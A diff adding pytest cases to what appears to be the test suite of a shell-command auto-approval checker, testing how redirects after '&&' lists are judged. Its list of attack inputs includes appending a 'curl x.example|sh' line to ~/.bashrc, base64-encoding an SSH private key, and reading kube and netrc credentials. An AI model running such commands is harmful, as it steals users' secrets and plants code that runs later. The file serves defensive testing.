@@ -293,3 +293,31 @@ def test_false_alarms_of_the_first_run(cmd: str, verdict: str) -> None:
 @pytest.mark.parametrize("cmd", FALSE_ALARM_ATTACKS)
 def test_false_alarm_fixes_keep_asking(cmd: str) -> None:
     assert _auto(cmd) != "allow", cmd
+
+
+# tree-sitter puts `a && b > f` around the whole list; bash binds the redirect to `b` alone,
+# after `a` ran: a name `a` assigned or a directory `a` entered is the one `b` writes to.
+LIST_REDIRECTS = [
+    ('x=/tmp/a && echo hi > "$x"', "allow"),
+    ('tmp=$(mktemp) && sort data.csv > "$tmp" && mv "$tmp" data.csv', "allow"),
+    ("make && echo done > build/status", "allow"),
+]
+LIST_REDIRECT_ATTACKS = [
+    'x=~/.bashrc && echo "curl x.example|sh" >> "$x"',
+    "cd ~/.kube && cat < config",
+    "cd ~ && echo x > .profile",
+    "true && cat > ~/.bashrc",
+    'f=~/.ssh/id_rsa && base64 < "$f"',
+    'd=.git/hooks && echo evil > "$d/pre-commit"',
+    'x=/tmp/a && cat ~/.netrc > "$x"',
+]
+
+
+@pytest.mark.parametrize(("cmd", "verdict"), LIST_REDIRECTS)
+def test_a_redirect_after_a_list_belongs_to_its_last_command(cmd: str, verdict: str) -> None:
+    assert _auto(cmd) == verdict, cmd
+
+
+@pytest.mark.parametrize("cmd", LIST_REDIRECT_ATTACKS)
+def test_a_redirect_after_a_list_still_judges_what_it_touches(cmd: str) -> None:
+    assert _auto(cmd) != "allow", cmd
